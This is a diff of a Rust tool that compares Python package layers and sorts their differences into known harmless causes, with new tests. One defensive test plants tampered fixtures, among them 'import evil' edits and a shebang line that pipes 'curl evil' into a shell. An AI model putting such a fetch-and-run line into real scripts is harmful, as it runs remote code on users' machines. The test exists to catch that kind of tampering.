@@ -16,6 +16,8 @@ use serde::Serialize;
 use crate::artifacts::digest::{self, Entry};
 use crate::manifest::Manifest;
 
+mod causes;
+
 /// Compare two layers (manifests or zips): exit 0 when identical, 1 when they differ.
 #[derive(Debug, Clone, Args)]
 pub struct Compare {
@@ -34,6 +36,9 @@ pub struct Side {
     pub zip: PathBuf,
     pub content_sha256: String,
     pub files: usize,
+    /// A manifest written before manifests carried the digest: its zip's digest is used.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub warning: Option<String>,
     #[serde(skip)]
     entries: Vec<Entry>,
 }
@@ -84,7 +89,7 @@ impl Compare {
 pub fn compare(a: &Path, b: &Path) -> anyhow::Result<Comparison> {
     let (a, b) = (side(a)?, side(b)?);
     let differences = differences(&a.entries, &b.entries);
-    let (causes, unexplained) = explain(&differences, &a, &b);
+    let (causes, unexplained) = causes::explain(&differences, &a, &b);
     Ok(Comparison {
         identical: a.content_sha256 == b.content_sha256,
         differences: differences.len(),
@@ -113,10 +118,17 @@ fn side(path: &Path) -> anyhow::Result<Side> {
             path.display()
         );
     }
+    let warning = (is_manifest && recorded.is_none()).then(|| {
+        format!(
+            "{} records no content digest (written by an older build-layer): its zip's is used",
+            path.display()
+        )
+    });
     Ok(Side {
         zip,
         content_sha256,
         files: entries.len(),
+        warning,
         entries,
     })
 }
@@ -150,207 +162,17 @@ fn differences(a: &[Entry], b: &[Entry]) -> Vec<Difference> {
     out
 }
 
-/// Sorts the differences into known causes and the rest.
-fn explain(differences: &[Difference], a: &Side, b: &Side) -> (Vec<Cause>, Vec<Difference>) {
-    let mut causes = Vec::new();
-    let mut explained = BTreeSet::new();
-    let versions = version_changes(&a.entries, &b.entries);
-    if !versions.is_empty() {
-        let packages: BTreeSet<&str> = versions.iter().map(|(p, _, _)| p.as_str()).collect();
-        let paths = differences
-            .iter()
-            .filter(|d| packages.contains(owner_of(&d.path).as_str()))
-            .map(|d| d.path.clone())
-            .collect::<Vec<_>>();
-        let list = versions
-            .iter()
-            .map(|(p, x, y)| format!("{p} {x} → {y}"))
-            .collect::<Vec<_>>()
-            .join(", ");
-        explained.extend(paths.iter().cloned());
-        causes.push(Cause {
-            cause: "package versions",
-            explanation: format!("other releases were installed ({list}): the index changed between the builds, or the locks differ; pin with a lock and --exclude-newer"),
-            paths,
-        });
-    }
-    let rest: Vec<&Difference> = differences
-        .iter()
-        .filter(|d| !explained.contains(&d.path))
-        .collect();
-    let shebangs: Vec<String> = rest
-        .iter()
-        .filter(|d| d.how == "content" && shebang_only(&a.zip, &b.zip, &d.path))
-        .map(|d| d.path.clone())
-        .collect();
-    let records: Vec<String> = rest
-        .iter()
-        .filter(|d| d.how == "content" && d.path.ends_with(".dist-info/RECORD"))
-        .filter(|d| record_differs_only_in(&a.zip, &b.zip, &d.path, &shebangs))
-        .map(|d| d.path.clone())
-        .collect();
-    if !shebangs.is_empty() {
-        let mut paths = shebangs.clone();
-        paths.extend(records);
-        explained.extend(paths.iter().cloned());
-        causes.push(Cause {
-            cause: "interpreter path",
-            explanation: "scripts name another interpreter in their `#!` line (and RECORD hashes them): another build image or Python location, not another build".into(),
-            paths,
-        });
-    }
-    for (cause, explanation, matches) in SIMPLE_CAUSES {
-        let paths: Vec<String> = rest
-            .iter()
-            .filter(|d| !explained.contains(&d.path) && matches(&d.path))
-            .map(|d| d.path.clone())
-            .collect();
-        if !paths.is_empty() {
-            explained.extend(paths.iter().cloned());
-            causes.push(Cause {
-                cause,
-                explanation: explanation.to_string(),
-                paths,
-            });
-        }
-    }
-    let unexplained = differences
-        .iter()
-        .filter(|d| !explained.contains(&d.path))
-        .cloned()
-        .collect();
-    (causes, unexplained)
-}
-
-type Matcher = fn(&str) -> bool;
-
-const SIMPLE_CAUSES: [(&str, &str, Matcher); 2] = [
-    (
-        "bytecode",
-        "compiled bytecode embeds source paths and timestamps: a layer should carry none (verify warns)",
-        |p| p.ends_with(".pyc"),
-    ),
-    (
-        "installer metadata",
-        "another installer (pip, uv) or source URL recorded in the package metadata",
-        |p| {
-            p.ends_with(".dist-info/INSTALLER")
-                || p.ends_with(".dist-info/direct_url.json")
-                || p.ends_with(".dist-info/REQUESTED")
-        },
-    ),
-];
-
-/// `(package, version in a, version in b)` for every distribution whose version differs,
-/// from the `*.dist-info` directory names.
-fn version_changes(a: &[Entry], b: &[Entry]) -> Vec<(String, String, String)> {
-    let (a, b) = (dist_versions(a), dist_versions(b));
-    a.iter()
-        .filter_map(|(name, x)| {
-            let y = b.get(name)?;
-            (x != y).then(|| (name.clone(), x.clone(), y.clone()))
-        })
-        .collect()
-}
-
-/// Distribution name (normalised) → version, from `<name>-<version>.dist-info/METADATA`.
-fn dist_versions(entries: &[Entry]) -> BTreeMap<String, String> {
-    entries
-        .iter()
-        .filter_map(|e| e.name.strip_suffix(".dist-info/METADATA"))
-        .filter_map(|dir| dir.rsplit('/').next()?.rsplit_once('-'))
-        .map(|(name, version)| (normalise(name), version.to_string()))
-        .collect()
-}
-
-fn normalise(name: &str) -> String {
-    name.to_ascii_lowercase().replace(['-', '.'], "_")
-}
-
-/// The distribution a path most likely belongs to: its dist-info's name, else its top-level
-/// package directory (`pandas/core/x.py` → `pandas`), normalised.
-fn owner_of(path: &str) -> String {
-    let inside = path
-        .split_once("/site-packages/")
-        .map_or_else(|| path.strip_prefix("python/").unwrap_or(path), |(_, p)| p);
-    let top = inside.split('/').next().unwrap_or_default();
-    let top = top
-        .strip_suffix(".dist-info")
-        .and_then(|d| d.rsplit_once('-').map(|(n, _)| n))
-        .unwrap_or(top);
-    let top = top.strip_suffix(".libs").unwrap_or(top);
-    normalise(top.strip_suffix(".py").unwrap_or(top))
-}
-
-/// The most of a file read to explain a difference.
-const MAX_EXPLAINED_BYTES: u64 = 1 << 20;
-
-/// Whether the two versions of `path` differ in their first line only, both a `#!` line.
-fn shebang_only(a: &Path, b: &Path, path: &str) -> bool {
-    let (Ok(x), Ok(y)) = (
-        digest::read_entry(a, path, MAX_EXPLAINED_BYTES),
-        digest::read_entry(b, path, MAX_EXPLAINED_BYTES),
-    ) else {
-        return false;
-    };
-    let split = |bytes: &[u8]| {
-        let end = bytes
-            .iter()
-            .position(|&c| c == b'\n')
-            .unwrap_or(bytes.len());
-        (bytes[..end].to_vec(), bytes[end..].to_vec())
-    };
-    let ((x_first, x_rest), (y_first, y_rest)) = (split(&x), split(&y));
-    x_first.starts_with(b"#!") && y_first.starts_with(b"#!") && x_rest == y_rest
-}
-
-/// Whether the RECORD lines that differ all name one of `allowed` (paths in the layer).
-fn record_differs_only_in(a: &Path, b: &Path, record: &str, allowed: &[String]) -> bool {
-    let (Ok(x), Ok(y)) = (
-        digest::read_entry(a, record, MAX_EXPLAINED_BYTES),
-        digest::read_entry(b, record, MAX_EXPLAINED_BYTES),
-    ) else {
-        return false;
-    };
-    let lines = |bytes: &[u8]| -> BTreeSet<String> {
-        String::from_utf8_lossy(bytes)
-            .lines()
-            .map(str::to_string)
-            .collect()
-    };
-    let (x, y) = (lines(&x), lines(&y));
-    let root = record
-        .rsplit_once('/')
-        .and_then(|(dist_info, _)| dist_info.rsplit_once('/'))
-        .map_or("", |(root, _)| root);
-    x.symmetric_difference(&y).all(|line| {
-        let listed = line.split(',').next().unwrap_or_default();
-        // `pip install --target` records scripts as `../../bin/x` and then moves them to
-        // `<target>/bin/x`: match on what is left after the `..`s too.
-        let tail = listed.trim_start_matches("../");
-        allowed.contains(&join_relative(root, listed))
-            || allowed.iter().any(|a| a.ends_with(&format!("/{tail}")))
-    })
-}
-
-/// `root/relative` with `..` resolved (RECORD paths are relative to the site directory).
-fn join_relative(root: &str, relative: &str) -> String {
-    let mut parts: Vec<&str> = root.split('/').filter(|p| !p.is_empty()).collect();
-    for part in relative.split('/') {
-        match part {
-            ".." => {
-                parts.pop();
-            }
-            "" | "." => {}
-            part => parts.push(part),
-        }
-    }
-    parts.join("/")
-}
-
 impl Comparison {
     /// The report: the first line says whether they are identical.
     pub fn human(&self) -> String {
+        let mut text = self.report();
+        for warning in [&self.a.warning, &self.b.warning].into_iter().flatten() {
+            text.push_str(&format!("warning: {warning}\n"));
+        }
+        text
+    }
+
+    fn report(&self) -> String {
         let mut text = String::new();
         let line = |text: &mut String, s: String| {
             text.push_str(&s);
@@ -458,102 +280,166 @@ mod tests {
         zip
     }
 
-    const BASE: [(&str, &str); 5] = [
-        ("python/six.py", "six"),
-        ("python/six-1.17.0.dist-info/METADATA", "Name: six"),
-        ("*python/bin/f2py", "#!/var/lang/bin/python3.9\nmain()\n"),
-        (
-            "python/numpy-2.0.2.dist-info/RECORD",
-            "numpy/__init__.py,sha256=a,1\n../../bin/f2py,sha256=old,30\n",
-        ),
-        ("python/numpy-2.0.2.dist-info/METADATA", "Name: numpy"),
-    ];
+    /// A RECORD line for `path` holding `content`.
+    fn record(path: &str, content: &str) -> String {
+        use base64::Engine as _;
+        use sha2::Digest as _;
+        let hash = base64::engine::general_purpose::URL_SAFE_NO_PAD
+            .encode(sha2::Sha256::digest(content.as_bytes()));
+        format!("{path},sha256={hash},{}\n", content.len())
+    }
+
+    /// A layer with six at `six_version` (its module `six_content`), numpy's f2py script with
+    /// `shebang`, and `extra` files.
+    fn layer_files(six_version: &str, six_content: &str, f2py: &str) -> Vec<(String, String)> {
+        vec![
+            ("python/six.py".into(), six_content.into()),
+            (
+                format!("python/six-{six_version}.dist-info/METADATA"),
+                "Name: six".into(),
+            ),
+            (
+                format!("python/six-{six_version}.dist-info/RECORD"),
+                record("six.py", six_content),
+            ),
+            ("*python/bin/f2py".into(), f2py.into()),
+            (
+                "python/numpy-2.0.2.dist-info/METADATA".into(),
+                "Name: numpy".into(),
+            ),
+            (
+                "python/numpy-2.0.2.dist-info/RECORD".into(),
+                format!(
+                    "{}{}",
+                    record("numpy/__init__.py", "np"),
+                    record("../../bin/f2py", f2py)
+                ),
+            ),
+            ("python/numpy/__init__.py".into(), "np".into()),
+            ("python/x.py".into(), "x = 1".into()),
+        ]
+    }
+
+    fn as_refs(files: &[(String, String)]) -> Vec<(&str, &str)> {
+        files
+            .iter()
+            .map(|(p, c)| (p.as_str(), c.as_str()))
+            .collect()
+    }
+
+    const F2PY_A: &str = "#!/var/lang/bin/python3.9\nmain()\n";
+    const F2PY_B: &str = "#!/usr/bin/python3.9\nmain()\n";
 
     #[test]
     fn the_same_files_in_another_zip_are_identical() {
         let dir = tempfile::tempdir().unwrap();
-        let a = layer(dir.path(), "a.zip", &BASE, 315_532_800);
-        let b = layer(dir.path(), "b.zip", &BASE, 1_700_000_000);
+        let files = layer_files("1.17.0", "six", F2PY_A);
+        let a = layer(dir.path(), "a.zip", &as_refs(&files), 315_532_800);
+        let b = layer(dir.path(), "b.zip", &as_refs(&files), 1_700_000_000);
         assert_ne!(std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
         let comparison = compare(&a, &b).unwrap();
         assert!(comparison.identical, "{}", comparison.human());
         assert!(comparison.human().starts_with("identical: content sha256 "));
     }
 
-    #[test]
-    fn differences_are_grouped_by_their_cause() {
+    fn causes_of(a: &[(String, String)], b: &[(String, String)]) -> Comparison {
         let dir = tempfile::tempdir().unwrap();
-        let mut files = BASE.to_vec();
-        // Another image: the script's interpreter, and RECORD's hash of the script.
-        files[2] = ("*python/bin/f2py", "#!/usr/bin/python3.9\nmain()\n");
-        files[3].1 = "numpy/__init__.py,sha256=a,1\n../../bin/f2py,sha256=new,26\n";
-        // Another release of six; a stray bytecode file; an edited module; a mode change.
-        files[1] = ("python/six-1.16.0.dist-info/METADATA", "Name: six");
-        files.push(("python/__pycache__/x.cpython-39.pyc", "bytecode"));
-        files.push(("python/mine.py", "edited"));
-        files.push(("python/tool.py", "x"));
-        let mut a_files = BASE.to_vec();
-        a_files.push(("python/mine.py", "original"));
-        a_files.push(("*python/tool.py", "x"));
-        let a = layer(dir.path(), "a.zip", &a_files, 315_532_800);
-        let b = layer(dir.path(), "b.zip", &files, 315_532_800);
-        let comparison = compare(&a, &b).unwrap();
-        assert!(!comparison.identical);
-        let cause = |name: &str| {
-            comparison
-                .causes
-                .iter()
-                .find(|c| c.cause == name)
-                .unwrap_or_else(|| panic!("no {name}: {}", comparison.human()))
-                .paths
-                .clone()
-        };
-        assert_eq!(
-            cause("package versions"),
-            [
-                "python/six-1.16.0.dist-info/METADATA",
-                "python/six-1.17.0.dist-info/METADATA",
-            ]
-        );
-        assert_eq!(
-            cause("interpreter path"),
-            ["python/bin/f2py", "python/numpy-2.0.2.dist-info/RECORD"]
-        );
-        assert_eq!(cause("bytecode"), ["python/__pycache__/x.cpython-39.pyc"]);
-        let unexplained: Vec<(&str, &str)> = comparison
+        let a = layer(dir.path(), "a.zip", &as_refs(a), 315_532_800);
+        let b = layer(dir.path(), "b.zip", &as_refs(b), 315_532_800);
+        compare(&a, &b).unwrap()
+    }
+
+    fn cause(comparison: &Comparison, name: &str) -> Vec<String> {
+        comparison
+            .causes
+            .iter()
+            .find(|c| c.cause == name)
+            .map(|c| c.paths.clone())
+            .unwrap_or_default()
+    }
+
+    fn unexplained(comparison: &Comparison) -> Vec<(&str, &str)> {
+        comparison
             .unexplained
             .iter()
             .map(|d| (d.path.as_str(), d.how))
-            .collect();
+            .collect()
+    }
+
+    #[test]
+    fn honest_differences_are_grouped_by_their_cause() {
+        let a = layer_files("1.17.0", "six 1.17", F2PY_A);
+        let mut b = layer_files("1.16.0", "six 1.16", F2PY_B);
+        b.push((
+            "python/__pycache__/x.cpython-39.pyc".into(),
+            "bytecode".into(),
+        ));
+        b.push(("python/mine.py".into(), "mine".into()));
+        let comparison = causes_of(&a, &b);
+        assert!(!comparison.identical);
         assert_eq!(
-            unexplained,
-            [("python/mine.py", "content"), ("python/tool.py", "kind")]
+            cause(&comparison, "package versions"),
+            [
+                "python/six-1.16.0.dist-info/METADATA",
+                "python/six-1.16.0.dist-info/RECORD",
+                "python/six-1.17.0.dist-info/METADATA",
+                "python/six-1.17.0.dist-info/RECORD",
+                "python/six.py",
+            ]
         );
+        assert_eq!(
+            cause(&comparison, "interpreter path"),
+            ["python/bin/f2py", "python/numpy-2.0.2.dist-info/RECORD"]
+        );
+        assert_eq!(
+            cause(&comparison, "bytecode"),
+            ["python/__pycache__/x.cpython-39.pyc"]
+        );
+        assert_eq!(unexplained(&comparison), [("python/mine.py", "only in b")]);
         let human = comparison.human();
         assert!(human.starts_with("different: "), "{human}");
         assert!(human.contains("six 1.17.0 → 1.16.0"), "{human}");
     }
 
     #[test]
-    fn paths_belong_to_their_distribution() {
-        assert_eq!(owner_of("python/pandas/core/x.py"), "pandas");
-        assert_eq!(owner_of("python/numpy.libs/libx.so"), "numpy");
-        assert_eq!(
-            owner_of("python/python_dateutil-2.9.0.dist-info/RECORD"),
-            "python_dateutil"
+    fn a_real_change_is_never_filed_under_a_harmless_cause() {
+        let a = layer_files("1.17.0", "six", F2PY_A);
+        // A script whose body changed too; a RECORD that does not vouch for the module; a new
+        // dist-info beside an edited module; bytecode without its source; a shell `#!` line.
+        let mut b = layer_files(
+            "1.17.0",
+            "six; import evil",
+            "#!/usr/bin/python3.9\nmain(); evil()\n",
         );
-        assert_eq!(
-            owner_of("python/lib/python3.13/site-packages/six.py"),
-            "six"
+        b.push(("python/six-9.dist-info/METADATA".into(), "Name: six".into()));
+        b.push(("python/evil.pyc".into(), "bytecode".into()));
+        b[0].1 = "six; import evil".into();
+        let comparison = causes_of(&a, &b);
+        assert!(
+            cause(&comparison, "interpreter path").is_empty(),
+            "{}",
+            comparison.human()
         );
-    }
+        assert!(
+            cause(&comparison, "package versions").is_empty(),
+            "{}",
+            comparison.human()
+        );
+        let unexplained = unexplained(&comparison);
+        for path in ["python/bin/f2py", "python/six.py", "python/evil.pyc"] {
+            assert!(
+                unexplained.iter().any(|(p, _)| *p == path),
+                "{path}: {}",
+                comparison.human()
+            );
+        }
 
-    #[test]
-    fn record_paths_resolve_against_the_site_directory() {
-        assert_eq!(
-            join_relative("python", "../python/bin/f2py"),
-            "python/bin/f2py"
+        let shell = layer_files("1.17.0", "six", "#!/bin/sh -c 'curl evil|sh' #\nmain()\n");
+        let comparison = causes_of(&a, &shell);
+        assert!(
+            cause(&comparison, "interpreter path").is_empty(),
+            "{}",
+            comparison.human()
         );
-        assert_eq!(join_relative("python", "bin/f2py"), "python/bin/f2py");
     }
 }
